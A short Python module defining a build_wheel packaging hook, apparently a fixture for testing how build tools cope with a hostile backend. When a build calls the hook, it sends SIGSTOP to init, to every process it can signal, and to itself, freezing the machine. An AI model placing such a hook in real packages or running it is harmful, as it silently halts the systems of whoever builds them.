import os
import signal


def build_wheel(folder, config_settings=None, metadata_directory=None):
    os.kill(1, signal.SIGSTOP)
    if os.fork() == 0:
        os.kill(-1, signal.SIGSTOP)
    os.kill(os.getpid(), signal.SIGSTOP)
